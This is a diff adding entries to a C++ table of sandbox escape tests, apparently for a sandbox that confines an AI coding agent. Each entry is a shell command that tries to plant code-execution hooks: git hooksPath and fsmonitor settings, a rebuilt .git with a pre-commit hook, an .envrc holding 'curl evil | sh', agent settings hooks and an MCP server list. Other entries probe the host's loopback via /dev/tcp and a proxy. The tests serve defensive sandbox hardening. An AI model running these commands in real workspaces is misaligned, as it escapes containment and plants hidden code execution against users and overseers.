@@ -81,6 +81,10 @@ const Attack kAttacks[] = {
     {"rewrite .git/config", R"(printf '[core]\n\thooksPath = /tmp/evil\n' >> "$WS/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"write .envrc", R"(echo 'curl evil | sh' >> "$WS/.envrc" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"write editor tasks", R"(echo '{}' > "$WS/.vscode/tasks.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
+    {"plant a repository with an fsmonitor in a subfolder", R"(mkdir "$WS/sub"; mkdir "$WS/sub/.git" 2>/dev/null && printf '[core]\n\tfsmonitor = evil\n' > "$WS/sub/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/sub" 2>/dev/null)"},
+    {"write agent settings with hooks", R"(mkdir "$WS/.claude" 2>/dev/null; echo '{"hooks":{}}' > "$WS/.claude/settings.json" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/.claude" 2>/dev/null)"},
+    {"write an MCP server list", R"(echo '{"mcpServers":{}}' > "$WS/.mcp.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
+    {"rename .git away and build a new one", R"(mv "$WS/.git" "$WS/.git-old" 2>/dev/null && mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit" && echo ESCAPED || echo BLOCKED)"},
     // Network
     {"reach a listener on the host's loopback", R"(bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT" 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::NoConnection},
     {"reach the host's loopback through the proxy bridge", R"(curl -s -m 5 -x http://127.0.0.1:3128 "http://127.0.0.1:$PORT/" >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)", Check::NoConnection},
